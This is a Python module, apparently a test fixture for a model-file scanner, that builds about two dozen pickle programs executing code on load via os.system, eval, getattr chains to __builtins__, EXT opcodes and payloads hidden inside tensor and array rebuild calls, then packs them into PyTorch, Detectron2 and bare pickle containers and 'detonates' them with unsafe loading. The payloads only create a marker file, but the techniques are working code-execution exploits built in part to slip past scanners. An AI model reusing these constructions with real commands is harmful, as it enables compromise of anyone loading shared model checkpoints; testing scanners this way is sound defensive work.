"""Files that run code when they are loaded the usual way: programs for the pickle machine, in each kind of container.

Every program creates the file ``marker``. ``detonate`` loads a file the usual way, to show that it would.
"""

import copyreg
import io
import os
import pickle
import struct
import zipfile
from pathlib import Path

import numpy as np
import torch

EXTENSION = 0xE7  # a code of the private range, for the EXT opcodes


def _text(value):
    data = value.encode()
    return b'X' + struct.pack('<I', len(data)) + data


def _raw(value):
    return b'B' + struct.pack('<I', len(value)) + value


def _call(module, name, *arguments):
    return f'c{module}\n{name}\n('.encode() + b''.join(arguments) + b'tR'


def _reduced(function, *arguments):
    class Payload:
        def __reduce__(self):
            return function, arguments

    return pickle.dumps(Payload(), 2)[2:-1]  # without PROTO and STOP


def programs(marker):
    """Names to opcodes that leave one value on the stack, and have created ``marker`` by then."""
    shell, source = f'touch {marker}', f'open({str(marker)!r}, "w").close()'
    command, code = _text(shell), _text(source)
    system = b'cos\nsystem\n'
    history = b'cmmengine.logging.history_buffer\nHistoryBuffer\n'

    def attribute(owner, name):
        return b'cbuiltins\ngetattr\n(' + owner + _text(name) + b'tR'

    def call(function, *arguments):
        return function + b'(' + b''.join(arguments) + b'tR'

    variables = attribute(attribute(history, '__init__'), '__globals__')
    builtins = call(attribute(variables, 'get'), _text('__builtins__'))
    lazily = b'cbuiltins\nmap\n' + b'(' + system + b'(' + command + b'tt'
    return {
        'reduce': _reduced(os.system, shell),
        'reduce to eval': _reduced(eval, f'open({str(marker)!r}, "w")'),
        'reduce to loads': _reduced(pickle.loads, b'\x80\x02' + _call('os', 'system', command) + b'.'),
        'global': _call('os', 'system', command),
        'global of Python 2': _call('__builtin__', 'eval', code),
        'stack_global': _text('os') + _text('system') + b'\x93(' + command + b'tR',
        'stack_global, dotted': _text('os') + _text('path.os.system') + b'\x93(' + command + b'tR',
        'inst': b'(' + command + b'ios\nsystem\n',
        'obj': b'(' + system + command + b'o',
        'build': b'ccollections\nOrderedDict\n)R}' + _text('__setstate__') + system + b'sb' + command + b'b',
        'build of a class': b'cmmengine.logging.history_buffer\nHistoryBuffer\n)\x81}'
        + _text('__setstate__')
        + system
        + b'sb'
        + command
        + b'b',
        'newobj': b'cbuiltins\nbytes\n(' + lazily + b'\x81t\x81',
        'newobj_ex': b'cbuiltins\nbytes\n(' + lazily + b'}\x92t}\x92',
        'ext1': b'\x82' + bytes([EXTENSION]) + b'(' + command + b'tR',
        'ext2': b'\x83' + struct.pack('<H', EXTENSION) + b'(' + command + b'tR',
        'ext4': b'\x84' + struct.pack('<i', EXTENSION) + b'(' + command + b'tR',
        'getattr of a module': call(attribute(_call('builtins', '__import__', _text('os')), 'system'), command),
        'getattr of what may be named': call(call(attribute(builtins, 'get'), _text('exec')), code),
        'partial': call(call(b'cfunctools\npartial\n', system, command)),
        'timeit': _call('timeit', 'timeit', code, b'X\x04\x00\x00\x00pass', b'cos\ngetpid\n', b'K\x01'),
        'memoised': system + b'q\x05' + b'0h\x05(' + command + b'tR',
        'within a tensor': b'ctorch._utils\n_rebuild_tensor_v2\n(' + _call('os', 'system', command) + b'K\x00))\x89NtR',
        'within an array': b'cnumpy.core.multiarray\n_reconstruct\n(' + _call('os', 'system', command) + b'tR',
    }


def _proto(program):
    # Dotted names need protocol 4; the names of Python 2 are known below 3.
    return b'\x80\x04' if b'\x93' in program else b'\x80\x02'


def _checkpoint(program):
    """A checkpoint's dict with a weight, and the program's value in ``meta``."""
    values = pickle.dumps(np.ones(3, 'f4'), 2)[2:-1]  # without PROTO and STOP
    weights = b'}' + _text('a.weight') + values + b's'
    return (
        _proto(program) + b'}(' + _text('state_dict') + weights + _text('meta') + b'}' + _text('x') + program + b'su.'
    )


def _model(program):
    """Detectron2's dict with the program's value among the arrays."""
    author = _text('__author__') + _text('a')
    return _proto(program) + b'}(' + _text('model') + b'}' + _text('x.weight') + program + b's' + author + b'u.'


def _zip(data):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, 'w') as archive:
        archive.writestr('archive/data.pkl', data)
        archive.writestr('archive/version', '3\n')
        archive.writestr('archive/byteorder', 'little')
    return buffer.getvalue()


def _legacy(data):
    buffer = io.BytesIO()
    torch.save({}, buffer, _use_new_zipfile_serialization=False)
    parts = [pickle.dumps(part, 2) for part in (torch.serialization.MAGIC_NUMBER, 1001, {'little_endian': True})]
    assert buffer.getvalue().startswith(parts[0])
    return b''.join(parts) + data + pickle.dumps([], 2)


CONTAINERS = {
    'torch zip': lambda program: _zip(_checkpoint(program)),
    'torch zip, weights': lambda program: _zip(
        _proto(program) + b'}(' + _text('state_dict') + b'}' + _text('a.weight') + program + b'su.'
    ),
    'torch legacy': lambda program: _legacy(_checkpoint(program)),
    'Detectron2 pickle': lambda program: _model(program),
    'bare pickle': lambda program: _proto(program) + program + b'.',
}


def write(folder, container, program, marker):
    """Write one file; returns its path."""
    path = Path(folder) / f'{container}-{program}.pth'.replace(' ', '_').replace(',', '')
    path.write_bytes(CONTAINERS[container](programs(marker)[program]))
    return path


def is_inert(path):
    """Whether the program's value is in ``meta``, where it is no obstacle to the weights."""
    return path.name.startswith(('torch_zip-', 'torch_legacy-'))


def register_extension():
    """Give the EXT opcodes something to call, in this process."""
    if ('os', 'system') not in copyreg._extension_registry:
        copyreg.add_extension('os', 'system', EXTENSION)


def detonate(path):
    """Load a file as everybody does; its program runs, whatever comes of the rest."""
    try:
        if 'pickle' in Path(path).name:
            with open(path, 'rb') as file:
                pickle.load(file)
        else:
            torch.load(path, weights_only=False)
    except Exception:  # the program ran first
        pass


NAMES = tuple(programs('x'))
